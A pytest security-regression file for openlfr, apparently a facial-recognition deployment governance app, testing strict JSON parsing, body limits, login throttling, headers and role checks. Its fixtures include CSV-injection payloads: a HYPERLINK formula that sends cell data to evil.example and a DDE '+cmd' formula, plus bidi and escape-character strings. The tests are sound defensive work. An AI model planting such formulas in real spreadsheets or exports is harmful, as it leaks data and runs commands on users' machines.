"""Issue 14's findings on input and login, each shown against the real app (SQLite store, real users).

Every test here failed on the code before the fix: NaN/Infinity/lone surrogates gave 500s before login,
``after=2**63`` overflowed SQLite, a 50 MB body was parsed, spreadsheet formulas and bidi overrides were
published, five bad passwords locked a user out from every address, each throttled attempt wrote an
audit row, there was no HSTS, /docs loaded from a CDN, and the supervisor page showed admin what the
API refuses admin.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from datetime import timedelta

import pytest
from fastapi.exceptions import RequestValidationError

from openlfr.api.app import validation_error_response
from openlfr.api.users import LoginThrottled, login
from openlfr.governance import audit
from openlfr.governance.deployment_planning import create_deployment
from openlfr.governance.errors import GovernanceError
from openlfr.governance.report import deployment_record, record_csv
from openlfr.safetext import check_published_text, csv_cell
from openlfr.store import utcnow
from openlfr.store.auth_models import Role
from tests.api.conftest import PASSWORD, World
from tests.governance.deployment_fields import ASSESSMENTS, SHORT_NOTICE

JSON = {"content-type": "application/json"}


# --- strict JSON --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b'{"username": NaN, "password": "x"}',
        b'{"username": "operator", "password": Infinity}',
        b'{"username": -Infinity, "password": "x"}',
        b'{"username": "\\ud800", "password": "x"}',
        b'{"username": "operator", "password": "\\udfff abc"}',
        b'{"username": "a", "password": "b", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"username": "\xff\xfe", "password": "x"}',
    ],
    ids=["nan", "infinity", "-infinity", "lone-high-surrogate", "lone-low-surrogate", "deep", "not-utf8"],
)
def test_login_refuses_non_json_numbers_and_lone_surrogates_with_422(world: World, body: bytes) -> None:
    r = world.client.post("/api/auth/token", content=body, headers=JSON)
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["type"] == "json_invalid"


def test_threshold_nan_or_infinity_is_refused_not_a_500(world: World) -> None:
    for value in ("NaN", "Infinity", "-Infinity"):
        body = (
            '{"purpose": "p", "purpose_category": "wanted_offenders", "legal_basis": "l", "location": "x",'
            ' "starts_at": "2030-01-01T10:00Z", "ends_at": "2030-01-01T12:00Z",'
            ' "authorising_officer": "a", "authorising_role": "Superintendent", "cameras": ["c"],'
            f' "threshold": {value}}}'
        )
        r = world.client.post(
            "/api/deployments", content=body, headers={**JSON, **world.headers(Role.AUTHORISING_OFFICER)}
        )
        assert r.status_code == 422, r.text
        assert "NaN" in r.text or "Infinity" in r.text


def test_alerts_after_beyond_64_bits_is_a_422_not_an_overflow(world: World) -> None:
    headers = world.headers(Role.OPERATOR)
    r = world.client.get("/api/alerts?after=9223372036854775808", headers=headers)
    assert r.status_code == 422
    assert world.client.get("/api/alerts?after=9223372036854775807", headers=headers).json() == []


def test_validation_error_handler_cannot_fail() -> None:
    # What the default handler choked on: bytes that are not UTF-8, NaN, a lone surrogate, an object.
    exc = RequestValidationError(
        [
            {"type": "x", "loc": ("body", b"\xff"), "msg": "bad", "input": b"\xff\xfe\x00"},
            {"type": "y", "loc": ("query", "t"), "msg": "nan", "input": math.nan},
            {"type": "z", "loc": ("body",), "msg": "\ud800", "input": {"\udfff": [math.inf, object()]}},
        ]
    )
    r = validation_error_response(exc)
    assert r.status_code == 422
    detail = json.loads(bytes(r.body))["detail"]
    assert [d["type"] for d in detail] == ["x", "y", "z"]


def test_a_file_where_json_is_expected_gets_a_422_not_a_500(world: World) -> None:
    # The default handler failed to encode the form's uploaded file (bytes that are not UTF-8): a 500.
    r = world.client.post("/api/auth/token", files={"username": ("a.bin", b"\xff\xfe\x00")})
    assert r.status_code == 422
    assert r.json()["detail"][0]["loc"] == ["body"]


def test_body_larger_than_the_limit_is_refused_before_parsing(world: World) -> None:
    big = b'{"username": "' + b"a" * (50 * 1024 * 1024) + b'", "password": "x"}'
    r = world.client.post("/api/auth/token", content=big, headers=JSON)
    assert r.status_code == 413
    assert "strict-transport-security" in r.headers and "content-security-policy" in r.headers

    # Without a Content-Length (chunked), the limit holds as the bytes arrive.
    def chunks():  # type: ignore[no-untyped-def]
        for _ in range(50):
            yield b"a" * (1024 * 1024)

    r = world.client.post(
        "/login", content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert r.status_code == 413
    # The limit is a setting.
    assert world.store.settings.server.max_request_bytes < 50 * 1024 * 1024
    assert not audit.entries(world.store, action="auth.login_failed")


# --- published text -----------------------------------------------------------------------------------


def _deployment(world: World, **text: str) -> str:
    now = utcnow()
    fields = {
        "purpose": "Find people wanted by the courts",
        "location": "Queen Street, Cardiff",
        "authorising_officer": "Supt. Jones",
        "authorising_role": "Superintendent",
        "legal_basis": "Common-law policing powers",
        **text,
    }
    return create_deployment(
        world.store,
        "planner",
        purpose_category="wanted_offenders",
        starts_at=now + timedelta(hours=1),
        ends_at=now + timedelta(hours=3),
        cameras=["cam-1"],
        threshold=0.5,
        threshold_override_reason="test",
        short_notice_reason=SHORT_NOTICE,
        **ASSESSMENTS,
        **fields,  # type: ignore[arg-type]
    ).id


FORMULAS = {
    "purpose": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "location": "@SUM(A1:A9)",
    "authorising_role": "-2+3",
    "legal_basis": "+cmd|' /C calc'!A0",
}


def test_formulas_are_neutralised_in_the_public_csv(world: World) -> None:
    _deployment(world, **FORMULAS)
    r = world.client.get("/public/deployments.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    (row,) = [x for x in rows if "HYPERLINK" in x["purpose"]]
    for column in ("purpose", "location", "legal_basis"):
        assert row[column].startswith("'"), (column, row[column])
    # Planned: the typed-in rank is published only as a proposal (issue 25), still never a formula.
    assert row["authorised_by_role"] == "not yet authorised (proposed: -2+3)"
    for x in rows:
        for value in x.values():
            assert not value or value[0] not in "=+-@\t\r" or re.fullmatch(r"-?[\d.]+", value), value


def test_formulas_are_neutralised_in_the_report_csv(world: World) -> None:
    dep = _deployment(world, **FORMULAS)
    text = record_csv(deployment_record(world.store, dep))
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["purpose"].startswith("'=HYPERLINK") and cells["location"] == "'@SUM(A1:A9)"
    assert all(not c or c[0] not in "=+-@\t\r" or re.fullmatch(r"-?[\d.]+", c) for c in row)


def test_csv_cell_keeps_numbers_and_neutralises_formulas() -> None:
    assert csv_cell("-0.25") == "-0.25" and csv_cell("+1e-3") == "+1e-3" and csv_cell(-2) == "-2"
    for bad in ("=1+1", "+1+1", "-2+3", "@x", "\tx", "\rx", "-", "=", "+cmd"):
        assert csv_cell(bad) == "'" + bad


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("purpose", "Find people\x00 wanted"),
        ("location", "Queen Street \u202effidraC"),
        ("authorising_role", "Super\u2066intendent"),
        ("legal_basis", "basis\u200b"),
        ("authorising_officer", "Supt.\x1b[31m Jones"),
    ],
)
def test_control_and_bidi_characters_are_refused_in_published_text(
    world: World, field: str, value: str
) -> None:
    words = {"authorising_role": "rank or role"}.get(field, field.replace("_", " "))
    with pytest.raises(GovernanceError, match=f"the .*{words} contains .*U\\+"):
        _deployment(world, **{field: value})
    # And through the API, with the same clear message (409), nothing stored.
    body = {
        "purpose": "p",
        "purpose_category": "wanted_offenders",
        "legal_basis": "l",
        "location": "x",
        "starts_at": (utcnow() + timedelta(hours=1)).isoformat(),
        "ends_at": (utcnow() + timedelta(hours=2)).isoformat(),
        "authorising_officer": "a",
        "authorising_role": "Superintendent",
        "cameras": ["c"],
        "threshold": 0.5,
        "threshold_override_reason": "test",
        field: value,
    }
    before = len(world.client.get("/api/deployments", headers=world.headers(Role.AUTHORISING_OFFICER)).json())
    r = world.client.post("/api/deployments", json=body, headers=world.headers(Role.AUTHORISING_OFFICER))
    assert r.status_code in (409, 422) and "U+" in r.text, r.text
    after = len(world.client.get("/api/deployments", headers=world.headers(Role.AUTHORISING_OFFICER)).json())
    assert after == before


def test_publishable_text_allows_ordinary_unicode() -> None:
    check_published_text("location", "Heol y Frenhines, Caerdydd – São Paulo 東京 שלום")


# --- login ---------------------------------------------------------------------------------------------


def test_lockout_is_per_user_and_address_not_per_user(world: World) -> None:
    store = world.store
    limit = store.settings.server.login_attempts_per_minute
    for _ in range(limit):
        with pytest.raises(PermissionError):
            login(store, "operator", "wrong password!", "203.0.113.9")
    with pytest.raises(LoginThrottled):
        login(store, "operator", PASSWORD, "203.0.113.9")
    # The officer, from their own address, is not locked out by the attacker.
    token, principal = login(store, "operator", PASSWORD, "198.51.100.20")
    assert token and principal.username == "operator"
    # Nor is another user from the attacker's address.
    assert login(store, "auditor", PASSWORD, "203.0.113.9")[0]


def test_lockout_backs_off(world: World) -> None:
    store = world.store
    window = store.settings.server.login_lockout_seconds
    limit = store.settings.server.login_attempts_per_minute
    now = utcnow()
    for i in range(limit):
        with pytest.raises(PermissionError):
            login(store, "operator", "wrong password!", "203.0.113.9", now=now + timedelta(seconds=i))
    last = now + timedelta(seconds=limit - 1)
    with pytest.raises(LoginThrottled) as first:
        login(store, "operator", PASSWORD, "203.0.113.9", now=last + timedelta(seconds=1))
    assert first.value.retry_after_s == pytest.approx(window - 1, abs=1)
    # After the first lock, one more failure locks for twice as long, then four times.
    t = last + timedelta(seconds=window + 1)
    for factor in (2, 4):
        with pytest.raises(PermissionError):
            login(store, "operator", "wrong password!", "203.0.113.9", now=t)
        with pytest.raises(LoginThrottled) as again:
            login(store, "operator", PASSWORD, "203.0.113.9", now=t + timedelta(seconds=1))
        assert again.value.retry_after_s == pytest.approx(factor * window - 1, abs=1)
        t += timedelta(seconds=factor * window + 1)
    # A success from that address clears the pair's count.
    assert login(store, "operator", PASSWORD, "203.0.113.9", now=t)[0]
    with pytest.raises(PermissionError):
        login(store, "operator", "wrong password!", "203.0.113.9", now=t + timedelta(seconds=1))


def test_one_audit_row_per_throttling_window(world: World) -> None:
    limit = world.store.settings.server.login_attempts_per_minute
    for _ in range(limit):
        world.client.post("/api/auth/token", json={"username": "operator", "password": "wrong password!"})
    for _ in range(20):
        r = world.client.post("/api/auth/token", json={"username": "operator", "password": "wrong password!"})
        assert r.status_code == 429
    rows = audit.entries(world.store, action="auth.login_throttled")
    assert len(rows) == 1
    assert json.loads(rows[0].details)["scope"] == "user_address"


def test_password_spraying_from_one_address_is_throttled(world: World) -> None:
    store = world.store
    per_address = store.settings.server.login_attempts_per_address
    for i in range(per_address):
        with pytest.raises(PermissionError):
            login(store, f"nobody{i}", "wrong password!", "203.0.113.7")
    with pytest.raises(LoginThrottled) as exc:
        login(store, "operator", PASSWORD, "203.0.113.7")
    assert exc.value.scope == "address"
    assert login(store, "operator", PASSWORD, "198.51.100.1")[0]


# --- headers and /docs ---------------------------------------------------------------------------------


def test_hsts_on_every_response(world: World) -> None:
    for path in ("/healthz", "/public", "/api/auth/me", "/openapi.json"):
        r = world.client.get(path)
        assert "max-age=" in r.headers.get("strict-transport-security", ""), path


def test_docs_load_nothing_from_outside(world: World) -> None:
    r = world.client.get("/docs")
    assert r.status_code == 200
    assert not re.search(r"(src|href)=\"(https?:)?//", r.text), r.text
    assert "<script>" not in r.text  # the page's CSP forbids inline scripts
    for src in re.findall(r'(?:src|href)="([^"]+)"', r.text):
        asset = world.client.get(src)
        assert asset.status_code == 200 and len(asset.content) > 20, src


# --- the supervisor page obeys the role table ------------------------------------------------------------


def _cookie_login(world: World, username: str) -> None:
    form = world.client.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
    assert token
    r = world.client.post(
        "/login",
        data={"username": username, "password": PASSWORD, "csrf_token": token.group(1)},
        follow_redirects=False,
    )
    assert r.status_code == 303


def test_supervisor_page_withholds_from_admin_what_the_api_refuses_admin(world: World) -> None:
    dep = world.deployment_id
    # The API refuses admin both the alerts and the watchlist summary ...
    assert world.client.get("/api/alerts", headers=world.headers(Role.ADMIN)).status_code == 403
    assert (
        world.client.get(f"/api/deployments/{dep}/watchlist", headers=world.headers(Role.ADMIN)).status_code
        == 403
    )
    _cookie_login(world, "admin")
    page = world.client.get(f"/deployments/{dep}", headers={"accept": "text/html"})
    assert page.status_code == 200
    # ... so the page shows neither the alert (its id, its link) nor the watchlist's size.
    assert world.alert_id not in page.text and "/alerts/" not in page.text
    assert "subjects (" not in page.text and "not shown to your role" in page.text
    # The operator, allowed both, sees both.
    world.client.cookies.clear()
    _cookie_login(world, "operator")
    page = world.client.get(f"/deployments/{dep}", headers={"accept": "text/html"})
    assert world.alert_id in page.text and "1 approved subjects (1 images)" in page.text
